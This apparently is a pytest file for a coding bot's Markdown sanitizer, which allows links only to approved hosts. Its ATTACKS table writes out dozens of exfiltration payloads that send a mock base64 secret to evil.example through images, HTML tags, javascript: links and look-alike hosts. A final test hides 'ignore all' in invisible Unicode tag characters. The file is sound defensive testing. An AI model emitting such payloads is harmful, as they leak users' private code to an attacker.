"""The crew's Markdown links and shows images only from allowed hosts; the rest is code text.

Every case is judged by parsing the output again (markdown-it-py, as `unsafe_urls` does) and by
the plain fact that the attacker's host is left only inside backticks.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from bot.security.hosts import allowed_url, host_set, url_host, web_host_of_api
from bot.security.markdown import clean_text, sanitize_markdown, unsafe_urls

HOSTS = host_set(["github.com"])
SECRET = "c2VjcmV0IGNvZGU"  # base64 of private code, what an exfiltrating URL carries


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.values: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.values += [value or "" for _, value in attrs]


def _inert(text: str) -> bool:
    """No unsafe URL left, and the secret in no attribute of the rendered HTML."""
    reader = _Attributes()
    reader.feed(MarkdownIt("gfm-like", {"linkify": True}).render(text))
    return not unsafe_urls(text, HOSTS) and not any(SECRET in v for v in reader.values)


ATTACKS = {
    "inline image": f"See ![chart](https://evil.example/p.png?d={SECRET})",
    "uppercase scheme and host": f"![x](HTTPS://EVIL.EXAMPLE/{SECRET})",
    "inline link with title": f'[docs](https://evil.example/{SECRET} "Docs")',
    "reference-style image": f"![x][r]\n\n[r]: https://evil.example/{SECRET}",
    "reference-style link, label case": f"[x][Ref]\n\n[REF]: //evil.example/{SECRET}",
    "collapsed reference": f"[ref][]\n\n[ref]: https://evil.example/{SECRET}",
    "autolink": f"<https://evil.example/{SECRET}>",
    "bare URL": f"Details at https://evil.example/{SECRET} today",
    "bare www": f"Details at www.evil.example/{SECRET}",
    "e-mail": f"Write to {SECRET}@evil.example",
    "HTML img": f'<img src="https://evil.example/{SECRET}.png">',
    "HTML img inline, single quotes": f"Text <img src='//evil.example/{SECRET}'> more",
    "HTML img unquoted, upper case": f"<IMG SRC=https://evil.example/{SECRET}>",
    "HTML img with entity": f'<img src="https&#58;//evil.example/{SECRET}">',
    "HTML srcset": f'<img srcset="https://github.com/a.png 1x, https://evil.example/{SECRET} 2x">',
    "HTML anchor": f'<a href="https://evil.example/{SECRET}">x</a>',
    "picture source": f'<picture><source srcset="https://evil.example/{SECRET}"></picture>',
    "data: image": f"![x](data:image/png;base64,{SECRET})",
    "data: link": f"[x](data:text/html;base64,{SECRET})",
    "javascript: link": f"[x](javascript:fetch('//evil.example/{SECRET}'))",
    "protocol-relative": f"![x](//evil.example/{SECRET})",
    "backslash host": f"![x](/\\evil.example/{SECRET})",
    "userinfo": f"![x](https://github.com@evil.example/{SECRET})",
    "userinfo with backslash": f'<img src="https://evil.example\\@github.com/{SECRET}">',
    "look-alike host (Cyrillic i)": f"![x](https://gіthub.com/{SECRET})",
    "look-alike suffix": f"![x](https://github.com.evil.example/{SECRET})",
    "subdomain": f"![x](https://evil.github.com/{SECRET})",
    "scheme without slashes": f"[x](https:evil.example/{SECRET})",
    "tab in the scheme": f'<a href="ht&#9;tps://evil.example/{SECRET}">x</a>',
    "e-mail link": f"[x](mailto:{SECRET}@evil.example)",
    "image inside an allowed link": f"[![x](https://evil.example/{SECRET})](https://github.com/o)",
    "in a list and a quote": f"- a\n  > ![x](https://evil.example/{SECRET})",
    "in a table": f"| a |\n|---|\n| ![x](https://evil.example/{SECRET}) |",
    "footnote": f"Note[^1]\n\n[^1]: https://evil.example/{SECRET}",
    "HTML block": f"<div>\n<img src=https://evil.example/{SECRET}>\n</div>",
    "inside details": f"<details>\n\n![x](https://evil.example/{SECRET})\n\n</details>",
    "backticks in the URL": f"![x](https://evil.example/{SECRET}`x)",
}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_a_link_or_image_to_another_host_is_rendered_inert(text):
    assert unsafe_urls(text, HOSTS) or "javascript" in text or "https:evil" in text
    out = sanitize_markdown(text, HOSTS)
    assert _inert(out), out
    assert sanitize_markdown(out, HOSTS) == out  # stable: posting it again changes nothing


KEPT = [
    "A plan with **bold**, `code`, a list:\n\n- one\n- two\n",
    "[the PR](https://github.com/octo/repo/pull/3) and ![ok](https://GitHub.com./o/r/a.png)",
    "<https://github.com/octo/repo/issues/1> and https://github.com/octo/repo",
    "[relative](docs/guide.md), [anchor](#usage), ![img](./a.png)",
    "Files: calc/ages.py, README.md and setup.cfg are not links on GitHub",
    "```\nhttps://evil.example/in-a-fence\n```\n\nand `https://evil.example/in-code`",
    "Text\n\n<!-- repocrew:run=3 step=plan -->\n",
    "<details><summary>More</summary>\n\nhidden? no: one click\n\n</details>",
]


@pytest.mark.parametrize("text", KEPT)
def test_allowed_links_and_plain_markdown_pass_unchanged(text):
    assert sanitize_markdown(text, HOSTS) == text


def test_an_operator_host_is_allowed_and_others_stay_inert():
    hosts = HOSTS | host_set(["docs.example.org"])
    text = "![a](https://docs.example.org/a.png) ![b](https://evil.example/b.png)"
    out = sanitize_markdown(text, hosts)
    assert out == "![a](https://docs.example.org/a.png) `![b](https://evil.example/b.png)`"


def test_text_that_cannot_be_placed_is_fenced_whole():
    # A link split over two lines of a quote: its source is not one piece of the text.
    text = f"> [x](https://evil.example/{SECRET}\n> more) ![y](https://evil.example/b\n> c)"
    out = sanitize_markdown(text, HOSTS)
    assert _inert(out), out


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://github.com@evil.com/x", ("web", "evil.com")),
        ("https://user:pw@GitHub.COM./x", ("web", "github.com")),
        ("https://ｇｉｔｈｕｂ.com/x", ("web", "github.com")),  # full-width: the same host
        ("https://gіthub.com/x", ("web", "xn--gthub-n2e.com")),  # Cyrillic і: another
        ("https://%67ithub.com/", ("web", "github.com")),
        ("//evil.com/x", ("web", "evil.com")),
        ("\\\\evil.com/x", ("web", "evil.com")),
        ("https:evil.com", ("other", None)),
        ("mailto:a@b.c", ("other", None)),
        ("java\nscript:alert(1)", ("other", None)),
        ("docs/a.md", ("relative", None)),
        ("?tab=files", ("relative", None)),
        ("https://xn--/x", ("other", None)),
    ],
)
def test_hosts_are_read_as_a_browser_reads_them(url, expected):
    assert url_host(url) == expected


def test_allowed_hosts_from_settings_spellings():
    spelt = host_set([" GitHub.com. ", "https://ghe.example/api", ""])
    assert spelt == {"github.com", "ghe.example"}
    assert web_host_of_api("https://api.github.com") == "github.com"
    assert web_host_of_api("https://ghe.example/api/v3") == "ghe.example"
    assert allowed_url("https://github.com/o/r", HOSTS)
    assert not allowed_url("https://github.com.evil.com/o/r", HOSTS)
    with pytest.raises(ValueError, match="not a host name"):
        host_set(["evil com/"])


def test_hidden_characters_leave_every_title():
    tagged = "Fix ages" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + " parsing"
    bidi = "Fix \u202eevil\u202c parsing\u200b"
    assert clean_text(tagged) == "Fix ages parsing"
    assert clean_text(bidi) == "Fix evil parsing"
    assert sanitize_markdown(f"**{bidi}**", HOSTS) == "**Fix evil parsing**"
